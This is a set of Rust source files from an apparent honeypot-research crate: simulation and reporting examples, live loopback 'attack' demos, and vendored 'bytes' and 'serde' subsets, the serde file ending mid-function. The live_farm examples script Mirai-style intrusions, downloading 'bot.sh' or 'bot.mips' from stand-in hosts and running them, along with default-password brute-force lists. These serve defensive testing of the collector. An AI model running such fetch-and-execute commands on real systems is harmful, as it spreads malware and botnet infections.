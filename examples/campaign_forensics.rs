//! Campaign forensics: dig into the attack campaigns behind the hashes —
//! the workflow of the paper's Section 8.
//!
//! Simulates a slice of the study window, then for the top campaigns shows
//! the Tables 4–6 view, an activity timeline, the shell script the campaign
//! runs, and the artifact metadata.
//!
//! ```sh
//! cargo run --release --example campaign_forensics
//! ```

use honeyfarm::core::aggregates::bit_count;
use honeyfarm::core::report::{tables, HashSortKey};
use honeyfarm::prelude::*;

fn main() {
    let config = SimConfig {
        seed: 7,
        scale: Scale::of(0.002),
        window: StudyWindow::first_days(240),
        use_script_cache: false,
        threads: 1,
    };
    eprintln!("simulating 240 days …");
    let out = Simulation::run(config);
    let agg = Aggregates::compute(&out.dataset);

    println!("=== Table 4: top 10 hashes by sessions ===");
    println!(
        "{}",
        tables::hash_table(&out.dataset, &agg, &out.tags, HashSortKey::Sessions, 10)
    );
    println!("=== Table 5: top 10 hashes by client IPs ===");
    println!(
        "{}",
        tables::hash_table(&out.dataset, &agg, &out.tags, HashSortKey::Clients, 10)
    );
    println!("=== Table 6: top 10 hashes by active days ===");
    println!(
        "{}",
        tables::hash_table(&out.dataset, &agg, &out.tags, HashSortKey::Days, 10)
    );

    // Deep-dive the three biggest campaigns by sessions.
    let top = tables::hash_table(&out.dataset, &agg, &out.tags, HashSortKey::Sessions, 3);
    for row in &top.rows {
        println!(
            "\n==================== campaign {} ====================",
            row.campaign
        );
        println!(
            "hash {}…  tag {}  {} sessions, {} clients, {} days, {} honeypots",
            row.hash, row.tag, row.sessions, row.clients, row.days, row.honeypots
        );
        // Artifact metadata from the collector's store.
        let digest_id = out
            .dataset
            .sessions
            .digests
            .iter()
            .find(|(_, d)| d.short() == row.hash)
            .map(|(id, _)| id);
        if let Some(id) = digest_id {
            let digest = out.dataset.sessions.digests.get(id);
            if let Some(meta) = out.dataset.artifacts.get(&digest) {
                println!(
                    "first seen {}  last seen {}  observations {}",
                    meta.first_seen.to_rfc3339(),
                    meta.last_seen.to_rfc3339(),
                    meta.occurrences
                );
            }
            // Weekly activity sparkline from the per-hash aggregate.
            let h = &agg.hashes[id as usize];
            println!(
                "spread: {} honeypots, {} clients",
                bit_count(&h.honeypots),
                h.clients.len()
            );
        }
    }

    println!("\n=== freshness snapshot (first 10 active days) ===");
    for p in agg.freshness.iter().take(10) {
        println!(
            "day {:>3}: {:>5} unique hashes, {:>5} first-seen ({:.0}%)",
            p.day,
            p.unique,
            p.fresh_ever,
            p.frac_ever() * 100.0
        );
    }
}
