//! Quickstart: simulate a short slice of honeyfarm life and reproduce the
//! paper's headline table.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use honeyfarm::prelude::*;

fn main() {
    // A small, fast configuration: 60 days at 1:500 scale.
    let config = SimConfig {
        seed: 42,
        scale: Scale::of(0.002),
        window: StudyWindow::first_days(60),
        use_script_cache: false,
        threads: 1,
    };
    println!(
        "simulating 60 days of honeyfarm traffic (seed {}) …",
        config.seed
    );
    let t0 = std::time::Instant::now();
    let out = Simulation::run_with_progress(config, |s| {
        if s.day % 10 == 0 || s.day == s.days_total {
            eprintln!(
                "  day {}/{} ({} sessions, {:.0}/s)",
                s.day,
                s.days_total,
                s.total_sessions,
                s.sessions_per_sec()
            );
        }
    });
    println!(
        "done in {:.1}s: {} sessions from {} client IPs, {} distinct hashes\n",
        t0.elapsed().as_secs_f64(),
        out.dataset.len(),
        out.n_clients,
        out.tags.len()
    );

    let agg = Aggregates::compute(&out.dataset);
    let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);

    println!("=== Table 1: session categories ===");
    println!("{}", report.table1);
    println!("=== Table 2: top successful passwords ===");
    println!("{}", report.table2);
    println!("=== Fig. 2: honeypot popularity ===");
    println!("{}", report.fig2);
    println!("=== headline claims ===");
    println!("{}", Claims::compute(&agg));
}
