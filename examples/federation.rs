//! Federated honeyfarms (paper Section 9): quantify what two independent
//! honeyfarm operators gain by pooling their data.
//!
//! Simulates two farms observing *different* slices of the attack ecosystem
//! (different seeds → different long-tail campaigns and client populations,
//! same headline botnets), then reports coverage and early-warning gains.
//!
//! ```sh
//! cargo run --release --example federation
//! ```

use honeyfarm::core::federation::{federate, FarmSightings};
use honeyfarm::prelude::*;

fn run_farm(name: &str, seed: u64) -> FarmSightings {
    eprintln!("simulating {name} (seed {seed}) …");
    let out = Simulation::run(SimConfig {
        seed,
        scale: Scale::of(0.002),
        window: StudyWindow::first_days(180),
        use_script_cache: false,
        threads: 1,
    });
    println!(
        "{name}: {} sessions, {} hashes",
        out.dataset.len(),
        out.tags.len()
    );
    FarmSightings::from_dataset(name, &out.dataset)
}

fn main() {
    let alpha = run_farm("alpha", 101);
    let beta = run_farm("beta", 202);
    let gamma = run_farm("gamma", 303);

    println!("\n=== two-member federation (alpha + beta) ===");
    println!("{}", federate(&[alpha.clone(), beta.clone()]));

    println!("=== three-member federation ===");
    println!("{}", federate(&[alpha, beta, gamma]));

    println!(
        "The paper's argument (Section 9): no single farm sees more than a\n\
         fraction of the hash universe, so sharing 'will substantially improve\n\
         the visibility … but also has the potential to identify such activity\n\
         earlier'. The union coverage factor and the detection-lead numbers\n\
         above are that argument, quantified."
    );
}
