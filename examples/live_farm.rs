//! Run a real mini honeyfarm on loopback TCP and attack it.
//!
//! The implementation lives in the `hf-wire` crate, which needs Tokio.
//! That crate is parked while builds run offline — the build environment
//! has no crates.io access and Tokio is too large to vendor as a subset
//! (see crates/wire/Cargo.toml for how to restore it). This stub keeps the
//! example target compiling so `cargo test` / `cargo build --examples`
//! stay green; the original loopback-attack walkthrough is preserved in
//! git history and in crates/wire's own sources.
//!
//! ```sh
//! cargo run --release --example live_farm
//! ```

fn main() {
    eprintln!(
        "live_farm is unavailable in this build: the hf-wire crate (live \
         Tokio TCP front-end) is excluded from offline builds. Restore it in \
         the root Cargo.toml on a machine with crates.io access, then re-run."
    );
    std::process::exit(1)
}
