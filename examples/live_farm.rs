//! Run a real mini honeyfarm on loopback TCP and attack it.
//!
//! Starts a [`LiveFarm`] — every virtual node's SSH and Telnet listener
//! bound on its own `127.18/127.19` mirror address, multiplexed through one
//! epoll reactor — then plays three attacks against it over real sockets:
//! an SSH intrusion that downloads a payload, a Telnet brute-force run, and
//! a port scan that never sends credentials. Finally it shuts the farm down
//! and prints what the collector recorded, demonstrating that the wire path
//! produces the same session records the simulator does.
//!
//! ```sh
//! cargo run --release --example live_farm
//! ```

use std::time::Duration;

use honeyfarm::wire::{run_script, FarmConfig, LiveFarm, Timing};

fn main() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 4,
        timing: Timing::Wall,
        keep_records: true,
        ..FarmConfig::default()
    })
    .expect("start live farm");
    println!("live farm up:");
    for node in farm.nodes() {
        println!(
            "  node {:>2}  ssh {}  telnet {}",
            node.id, node.ssh, node.telnet
        );
    }
    let timeout = Duration::from_secs(10);

    // 1. An SSH intrusion: ident exchange, login, recon, payload fetch.
    let ssh = farm.nodes()[0].ssh;
    let reply = run_script(
        ssh,
        "SSH-2.0-Go\r\nUSER root\nPASS 123456\nuname -a\nwget http://203.0.113.9/bot.sh\nEXIT\n",
        timeout,
    )
    .expect("ssh attack");
    println!(
        "\nssh intrusion against node 0 ({} reply bytes):",
        reply.len()
    );
    println!("{}", String::from_utf8_lossy(&reply));

    // 2. A Telnet brute-force: wrong guesses until the auth cap closes it.
    let telnet = farm.nodes()[1].telnet;
    let reply = run_script(
        telnet,
        "admin\r\nadmin\r\nuser\r\n123456\r\nroot\r\nroot\r\n",
        timeout,
    )
    .expect("telnet attack");
    println!(
        "telnet brute-force against node 1 ({} reply bytes)",
        reply.len()
    );

    // 3. A scan: connect, say nothing, leave.
    let reply = run_script(farm.nodes()[2].ssh, "", timeout).expect("scan");
    println!(
        "port scan against node 2 (banner: {:?})",
        String::from_utf8_lossy(&reply).lines().next().unwrap_or("")
    );

    // Drain and inspect what the collector saw.
    let out = farm.shutdown();
    println!(
        "\nfarm drained: {} sessions from {} clients (accepted {}, ingested {}, rejected {})",
        out.dataset.len(),
        out.n_clients,
        out.stats.accepted(),
        out.stats.ingested(),
        out.stats.rejected_ip_cap(),
    );
    for rec in &out.records {
        println!(
            "  honeypot {:>2} {:?}: auth={} cmds={} end={:?}",
            rec.honeypot,
            rec.protocol,
            rec.login_succeeded(),
            rec.commands.len(),
            rec.ended_by,
        );
    }
    assert!(
        out.stats.accounting_balanced(),
        "every connection accounted for"
    );
}
