//! Run a real mini honeyfarm on loopback TCP and attack it.
//!
//! Starts three live honeypots (each with an SSH-flavoured and a Telnet
//! listener), drives scan / scout / intrusion clients against them over real
//! sockets, then prints the collected Cowrie-style JSON events and the
//! classified session categories.
//!
//! ```sh
//! cargo run --release --example live_farm
//! ```

use honeyfarm::core::classify;
use honeyfarm::honeypot::EventLog;
use honeyfarm::proto::Protocol;
use honeyfarm::wire::{AttackClient, AttackScript, LiveFarm, LiveFarmConfig};

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let farm = LiveFarm::start(LiveFarmConfig::default())
        .await
        .expect("start mini-farm");
    println!("live mini-farm up:");
    for n in &farm.nodes {
        println!("  node {}: ssh {} telnet {}", n.id, n.ssh, n.telnet);
    }

    // 1. A port scan against every node.
    for n in &farm.nodes {
        AttackClient::run(n.telnet, &AttackScript::scan(Protocol::Telnet))
            .await
            .expect("scan");
    }
    // 2. A brute-force run against node 0.
    AttackClient::run(
        farm.nodes[0].ssh,
        &AttackScript::scout(
            Protocol::Ssh,
            &[("admin", "admin"), ("root", "root"), ("nproc", "1234")],
        ),
    )
    .await
    .expect("scout");
    // 3. A Mirai-flavoured intrusion against node 1, over Telnet.
    let transcript = AttackClient::run(
        farm.nodes[1].telnet,
        &AttackScript::intrusion(
            Protocol::Telnet,
            "1234",
            &[
                "cat /proc/cpuinfo | grep model",
                "cd /tmp; tftp -g -r bot.mips 198.51.100.7; chmod 777 bot.mips",
                "./bot.mips",
            ],
        ),
    )
    .await
    .expect("intrusion");
    println!("\n--- intruder's view (telnet transcript, node 1) ---");
    println!("{transcript}");

    // Let the collector drain, then inspect what the farm recorded.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let records = farm.shutdown();
    println!("--- collector: {} sessions captured ---", records.len());
    for rec in &records {
        // Classify through the same pipeline the simulator output uses.
        let mut store = honeyfarm::farm::SessionStore::new();
        store.ingest(rec, None);
        let category = classify(&store.view(0));
        println!(
            "\n[{}] {}:{} → honeypot {} ({} logins, {} cmds, {} hashes)",
            category,
            rec.client_ip,
            rec.client_port,
            rec.honeypot,
            rec.logins.len(),
            rec.commands.len(),
            rec.file_hashes.len() + rec.download_hashes.len(),
        );
        for line in EventLog::render(rec) {
            println!("  {line}");
        }
    }
}
