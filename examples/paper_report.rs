//! Regenerate every table and figure of the paper into `out/report/`.
//!
//! ```sh
//! # default: 1:100 scale over the full 486-day window (takes a while)
//! cargo run --release --example paper_report
//! # smaller/faster:
//! cargo run --release --example paper_report -- --scale 0.002 --days 180
//! ```

use std::path::PathBuf;

use honeyfarm::prelude::*;

struct Args {
    scale: f64,
    days: u32,
    seed: u64,
    out: PathBuf,
    fast: bool,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        days: 486,
        seed: 0x0e0e_fa20,
        out: PathBuf::from("out/report"),
        fast: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut val = || it.next().expect("flag needs a value");
        match flag.as_str() {
            "--scale" => args.scale = val().parse().expect("--scale f64"),
            "--days" => args.days = val().parse().expect("--days u32"),
            "--seed" => args.seed = val().parse().expect("--seed u64"),
            "--out" => args.out = PathBuf::from(val()),
            "--fast" => args.fast = true,
            other => {
                eprintln!("unknown flag {other}");
                eprintln!("usage: paper_report [--scale F] [--days N] [--seed S] [--out DIR] [--fast]");
                std::process::exit(2);
            }
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let window = if args.days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(args.days)
    };
    let config = SimConfig {
        seed: args.seed,
        scale: Scale::of(args.scale),
        window,
        use_script_cache: args.fast,
    };
    eprintln!(
        "simulating {} days at scale {} (seed {}) …",
        window.num_days(),
        args.scale,
        args.seed
    );
    let t0 = std::time::Instant::now();
    let out = Simulation::run_with_progress(config, |day, total| {
        if day % 30 == 0 || day == total {
            eprintln!(
                "  day {day}/{total} ({:.0}s elapsed)",
                t0.elapsed().as_secs_f64()
            );
        }
    });
    eprintln!(
        "simulation done in {:.1}s: {} sessions / {} clients / {} hashes",
        t0.elapsed().as_secs_f64(),
        out.dataset.len(),
        out.n_clients,
        out.tags.len()
    );

    let t1 = std::time::Instant::now();
    let agg = Aggregates::compute(&out.dataset, &out.tags);
    eprintln!("aggregation pass: {:.1}s", t1.elapsed().as_secs_f64());
    let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);
    let claims = Claims::compute(&agg);

    report.write_dir(&args.out).expect("write report dir");
    std::fs::write(args.out.join("claims.json"), claims.to_json()).expect("write claims");
    std::fs::write(args.out.join("claims.txt"), claims.to_string()).expect("write claims");

    println!("{}", report.summary());
    println!("## Claims\n{claims}");
    println!("full report written to {}", args.out.display());
}
