//! Regenerate every table and figure of the paper into `out/report/`.
//!
//! ```sh
//! # default: 1:100 scale over the full 486-day window (takes a while)
//! cargo run --release --example paper_report
//! # smaller/faster:
//! cargo run --release --example paper_report -- --scale 0.002 --days 180
//! # persist the run, then reanalyze without re-simulating:
//! cargo run --release --example paper_report -- --save-snapshot out/farm.hfstore
//! cargo run --release --example paper_report -- --from-snapshot out/farm.hfstore
//! # observe the run: emit metrics.json + spans.tsv (see DESIGN.md §10)
//! cargo run --release --example paper_report -- --metrics out/metrics
//! ```

use std::path::PathBuf;

use honeyfarm::prelude::*;

struct Args {
    scale: f64,
    days: u32,
    seed: u64,
    out: PathBuf,
    fast: bool,
    threads: usize,
    save_snapshot: Option<PathBuf>,
    from_snapshot: Option<PathBuf>,
    metrics: Option<PathBuf>,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.01,
        days: 486,
        seed: 0x0e0e_fa20,
        out: PathBuf::from("out/report"),
        fast: false,
        threads: 1,
        save_snapshot: None,
        from_snapshot: None,
        metrics: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut val = || it.next().expect("flag needs a value");
        match flag.as_str() {
            "--scale" => args.scale = val().parse().expect("--scale f64"),
            "--days" => args.days = val().parse().expect("--days u32"),
            "--seed" => args.seed = val().parse().expect("--seed u64"),
            "--out" => args.out = PathBuf::from(val()),
            "--fast" => args.fast = true,
            "--threads" => args.threads = val().parse().expect("--threads usize"),
            "--save-snapshot" => args.save_snapshot = Some(PathBuf::from(val())),
            "--from-snapshot" => args.from_snapshot = Some(PathBuf::from(val())),
            "--metrics" => args.metrics = Some(PathBuf::from(val())),
            other => {
                eprintln!("unknown flag {other}");
                eprintln!(
                    "usage: paper_report [--scale F] [--days N] [--seed S] [--out DIR] [--fast] \
                     [--threads N] [--save-snapshot FILE] [--from-snapshot FILE] \
                     [--metrics DIR]"
                );
                std::process::exit(2);
            }
        }
    }
    args
}

fn main() {
    let args = parse_args();
    if args.metrics.is_some() {
        honeyfarm::obs::enable();
    }
    let window = if args.days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(args.days)
    };
    let config = SimConfig {
        seed: args.seed,
        scale: Scale::of(args.scale),
        window,
        use_script_cache: args.fast,
        threads: args.threads,
    };
    let t0 = std::time::Instant::now();
    let out = if let Some(path) = &args.from_snapshot {
        eprintln!("loading snapshot {} …", path.display());
        let snap = Snapshot::read_file(path).unwrap_or_else(|e| {
            eprintln!("error loading snapshot: {e}");
            std::process::exit(1);
        });
        let out = SimOutput::from_snapshot(snap);
        eprintln!(
            "snapshot loaded in {:.1}s: {} sessions / {} clients / {} hashes",
            t0.elapsed().as_secs_f64(),
            out.dataset.len(),
            out.n_clients,
            out.tags.len()
        );
        out
    } else {
        eprintln!(
            "simulating {} days at scale {} (seed {}, {} thread{}) …",
            window.num_days(),
            args.scale,
            args.seed,
            args.threads,
            if args.threads == 1 { "" } else { "s" }
        );
        let out = Simulation::run_with_progress(config.clone(), |s| {
            if s.day % 30 == 0 || s.day == s.days_total {
                eprintln!(
                    "  day {}/{} ({:.0}s elapsed, {:.0} sessions/s today)",
                    s.day,
                    s.days_total,
                    t0.elapsed().as_secs_f64(),
                    s.sessions_per_sec()
                );
            }
        });
        eprintln!(
            "simulation done in {:.1}s: {} sessions / {} clients / {} hashes",
            t0.elapsed().as_secs_f64(),
            out.dataset.len(),
            out.n_clients,
            out.tags.len()
        );
        out
    };

    if let Some(path) = &args.save_snapshot {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).expect("snapshot dir");
        }
        if let Err(e) = out.to_snapshot(&config).write_file(path) {
            eprintln!("error writing snapshot: {e}");
            std::process::exit(1);
        }
        eprintln!("snapshot written to {}", path.display());
    }

    let t1 = std::time::Instant::now();
    let agg = Aggregates::compute_threaded(&out.dataset, args.threads);
    eprintln!("aggregation pass: {:.1}s", t1.elapsed().as_secs_f64());
    let report = Report::build_with_tags_threaded(&out.dataset, &agg, &out.tags, args.threads);
    let claims = Claims::compute(&agg);

    report.write_dir(&args.out).expect("write report dir");
    std::fs::write(args.out.join("claims.json"), claims.to_json()).expect("write claims");
    std::fs::write(args.out.join("claims.txt"), claims.to_string()).expect("write claims");

    if let Some(dir) = &args.metrics {
        let manifest = honeyfarm::obs::manifest("paper_report");
        manifest.write_dir(dir).expect("write metrics manifest");
        honeyfarm::obs::RunManifest::load_dir(dir).expect("emitted manifest must parse back");
        eprintln!("metrics manifest written to {}", dir.display());
    }

    println!("{}", report.summary());
    println!("## Claims\n{claims}");
    println!("full report written to {}", args.out.display());
}
