//! Offline vendored subset of `bytes`.
//!
//! [`BytesMut`] here is a growable byte buffer backed by a plain `Vec<u8>`;
//! the real crate's refcounted split/freeze machinery is not needed by this
//! workspace, which only appends bytes and reads the whole buffer back.

use std::ops::{Deref, DerefMut};

/// Append-oriented byte sink.
pub trait BufMut {
    fn put_u8(&mut self, b: u8);

    fn put_slice(&mut self, src: &[u8]);

    fn put_u16(&mut self, v: u16) {
        self.put_slice(&v.to_be_bytes());
    }

    fn put_u32(&mut self, v: u32) {
        self.put_slice(&v.to_be_bytes());
    }
}

/// A growable byte buffer.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BytesMut {
    inner: Vec<u8>,
}

impl BytesMut {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_capacity(cap: usize) -> Self {
        BytesMut {
            inner: Vec::with_capacity(cap),
        }
    }

    pub fn len(&self) -> usize {
        self.inner.len()
    }

    pub fn is_empty(&self) -> bool {
        self.inner.is_empty()
    }

    pub fn clear(&mut self) {
        self.inner.clear();
    }

    pub fn extend_from_slice(&mut self, src: &[u8]) {
        self.inner.extend_from_slice(src);
    }

    /// Consume the buffer, yielding its bytes.
    pub fn to_vec(&self) -> Vec<u8> {
        self.inner.clone()
    }
}

impl BufMut for BytesMut {
    fn put_u8(&mut self, b: u8) {
        self.inner.push(b);
    }

    fn put_slice(&mut self, src: &[u8]) {
        self.inner.extend_from_slice(src);
    }
}

impl BufMut for Vec<u8> {
    fn put_u8(&mut self, b: u8) {
        self.push(b);
    }

    fn put_slice(&mut self, src: &[u8]) {
        self.extend_from_slice(src);
    }
}

impl Deref for BytesMut {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        &self.inner
    }
}

impl DerefMut for BytesMut {
    fn deref_mut(&mut self) -> &mut [u8] {
        &mut self.inner
    }
}

impl AsRef<[u8]> for BytesMut {
    fn as_ref(&self) -> &[u8] {
        &self.inner
    }
}

impl From<&[u8]> for BytesMut {
    fn from(src: &[u8]) -> Self {
        BytesMut {
            inner: src.to_vec(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn put_and_read_back() {
        let mut b = BytesMut::new();
        b.put_u8(1);
        b.put_slice(&[2, 3]);
        b.put_u16(0x0405);
        assert_eq!(&b[..], &[1, 2, 3, 4, 5]);
        assert_eq!(b.len(), 5);
    }
}
