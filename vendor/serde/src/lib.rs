//! Offline vendored subset of `serde`.
//!
//! The build environment has no crates.io access, so the workspace wires
//! this path crate in through `[workspace.dependencies]`. Unlike real serde
//! (format-agnostic visitors), this subset is built around one concrete
//! [`Value`] tree — JSON's data model — because JSON is the only format the
//! workspace serializes to. The derive macros (re-exported from the
//! companion `serde_derive` path crate) generate [`Serialize::to_value`] /
//! [`Deserialize::from_value`] impls; `serde_json` renders and parses the
//! tree.
//!
//! Field/variant encoding matches real serde's defaults (maps in field
//! declaration order, externally tagged enums), so swapping the real crates
//! back in produces the same JSON.

pub use serde_derive::{Deserialize, Serialize};

use std::collections::{BTreeMap, HashMap};
use std::fmt;

/// A JSON-shaped value tree. Maps preserve insertion order so serialized
/// output follows field declaration order, like real serde_json.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    I64(i64),
    U64(u64),
    F64(f64),
    Str(String),
    Seq(Vec<Value>),
    Map(Vec<(String, Value)>),
}

static NULL: Value = Value::Null;

impl Value {
    /// Map lookup; returns [`Value::Null`] for missing keys (absent and
    /// null fields deserialize identically, as with `Option` in serde).
    pub fn field(&self, name: &str) -> &Value {
        match self {
            Value::Map(entries) => entries
                .iter()
                .find(|(k, _)| k == name)
                .map(|(_, v)| v)
                .unwrap_or(&NULL),
            _ => &NULL,
        }
    }

    /// Map lookup returning `None` when absent.
    pub fn get(&self, name: &str) -> Option<&Value> {
        match self {
            Value::Map(entries) => entries.iter().find(|(k, _)| k == name).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The sequence items, if this is a sequence of exactly `n` items.
    pub fn as_seq_len(&self, n: usize) -> Option<&[Value]> {
        match self {
            Value::Seq(items) if items.len() == n => Some(items),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::U64(v) => Some(*v),
            Value::I64(v) if *v >= 0 => Some(*v as u64),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::I64(v) => Some(*v),
            Value::U64(v) if *v <= i64::MAX as u64 => Some(*v as i64),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::F64(v) => Some(*v),
            Value::I64(v) => Some(*v as f64),
            Value::U64(v) => Some(*v as f64),
            _ => None,
        }
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }
}

/// Serialization error (also used for deserialization; one type keeps the
/// subset small).
#[derive(Debug, Clone, PartialEq)]
pub struct Error(pub String);

impl Error {
    /// Build an error from any displayable message (mirrors
    /// `serde::de::Error::custom`).
    pub fn custom<T: fmt::Display>(msg: T) -> Self {
        Error(msg.to_string())
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "serde error: {}", self.0)
    }
}

impl std::error::Error for Error {}

/// Deserialization error helpers, namespaced like real serde.
pub mod de {
    pub use crate::Error;
}

/// Types that can be represented as a [`Value`] tree.
pub trait Serialize {
    fn to_value(&self) -> Value;
}

/// Types that can be rebuilt from a [`Value`] tree.
pub trait Deserialize: Sized {
    fn from_value(v: &Value) -> Result<Self, Error>;
}

// ------------------------------------------------------------ std impls --

impl Serialize for Value {
    fn to_value(&self) -> Value {
        self.clone()
    }
}

impl Deserialize for Value {
    fn from_value(v: &Value) -> Result<Self, Error> {
        Ok(v.clone())
    }
}

impl Serialize for bool {
    fn to_value(&self) -> Value {
        Value::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_value(v: &Value) -> Result<Self, Error> {
        v.as_bool().ok_or_else(|| Error::custom("expected bool"))
    }
}

macro_rules! impl_serde_uint {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value { Value::U64(*self as u64) }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, Error> {
                let raw = v.as_u64().ok_or_else(|| Error::custom(concat!("expected ", stringify!($t))))?;
                <$t>::try_from(raw).map_err(|_| Error::custom(concat!("out of range for ", stringify!($t))))
            }
        }
    )*};
}
impl_serde_uint!(u8, u16, u32, u64, usize);

macro_rules! impl_serde_int {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value { Value::I64(*self as i64) }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, Error> {
                let raw = v.as_i64().ok_or_else(|| Error::custom(concat!("expected ", stringify!($t))))?;
                <$t>::try_from(raw).map_err(|_| Error::custom(concat!("out of range for ", stringify!($t))))
            }
        }
    )*};
}
impl_serde_int!(i8, i16, i32, i64, isize);

impl Serialize for f64 {
    fn to_value(&self) -> Value {
        Value::F64(*self)
    }
}

impl Deserialize for f64 {
    fn from_value(v: &Value) -> Result<Self, Error> {
        v.as_f64().ok_or_else(|| Error::custom("expected number"))
    }
}

impl Serialize for f32 {
    fn to_value(&self) -> Value {
        Value::F64(*self as f64)
    }
}

impl Deserialize for f32 {
    fn from_value(v: &Value) -> Result<Self, Error> {
        v.as_f64()
            .map(|f| f as f32)
            .ok_or_else(|| Error::custom("expected number"))
    }
}

impl Serialize for String {
    fn to_value(&self) -> Value {
        Value::Str(self.clone())
    }
}

impl Deserialize for String {
    fn from_value(v: &Value) -> Result<Self, Error> {
        v.as_str()
            .map(str::to_string)
            .ok_or_else(|| Error::custom("expected string"))
    }
}

impl Serialize for str {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl Serialize for char {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl Deserialize for char {
    fn from_value(v: &Value) -> Result<Self, Error> {
        let s = v
            .as_str()
            .ok_or_else(|| Error::custom("expected single-char string"))?;
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(Error::custom("expected single-char string")),
        }
    }
}

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Serialize> Serialize for Box<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        T::from_value(v).map(Box::new)
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_value(&self) -> Value {
        match self {
            Some(v) => v.to_value(),
            None => Value::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Null => Ok(None),
            other => T::from_value(other).map(Some),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Seq(items) => items.iter().map(Deserialize::from_value).collect(),
            _ => Err(Error::custom("expected sequence")),
        }
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize, const N: usize> Deserialize for [T; N] {
    fn from_value(v: &Value) -> Result<Self, Error> {
        let seq = v
            .as_seq_len(N)
            .ok_or_else(|| Error::custom("expected fixed-length sequence"))?;
        let items: Vec<T> = seq.iter().map(T::from_value).collect::<Result<_, _>>()?;
        items
            .try_into()
            .map_err(|_| Error::custom("array length mismatch"))
    }
}

macro_rules! impl_serde_tuple {
    ($(($($n:tt $t:ident),+)),+) => {$(
        impl<$($t: Serialize),+> Serialize for ($($t,)+) {
            fn to_value(&self) -> Value {
                Value::Seq(vec![$(self.$n.to_value()),+])
            }
        }
        impl<$($t: Deserialize),+> Deserialize for ($($t,)+) {
            fn from_value(v: &Value) -> Result<Self, Error> {
                const LEN: usize = 0 $(+ { let _ = $n; 1 })+;
                let seq = v
                    .as_seq_len(LEN)
                    .ok_or_else(|| Error::custom("expected tuple sequence"))?;
                Ok(($($t::from_value(&seq[$n])?,)+))
            }
        }
    )+};
}
impl_serde_tuple!((0 A), (0 A, 1 B), (0 A, 1 B, 2 C), (0 A, 1 B, 2 C, 3 D));

impl<V: Serialize> Serialize for BTreeMap<String, V> {
    fn to_value(&self) -> Value {
        Value::Map(
            self.iter()
                .map(|(k, v)| (k.clone(), v.to_value()))
                .collect(),
        )
    }
}

impl<V: Deserialize> Deserialize for BTreeMap<String, V> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Map(entries) => entries
                .iter()
                .map(|(k, v)| Ok((k.clone(), V::from_value(v)?)))
                .collect(),
            _ => Err(Error::custom("expected map")),
        }
    }
}

impl<V: Serialize> Serialize for HashMap<String, V> {
    fn to_value(&self) -> Value {
        // Sort for output stability: HashMap iteration order is random.
        let mut entries: Vec<(String, Value)> = self
            .iter()
            .map(|(k, v)| (k.clone(), v.to_value()))
            .collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Value::Map(entries)
    }
}

impl<V: Deserialize> Deserialize for HashMap<String, V> {
    fn from_value(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Map(entries) => entries
                .iter()
                .map(|(k, v)| Ok((k.clone(), V::from_value(v)?)))
                .collect(),
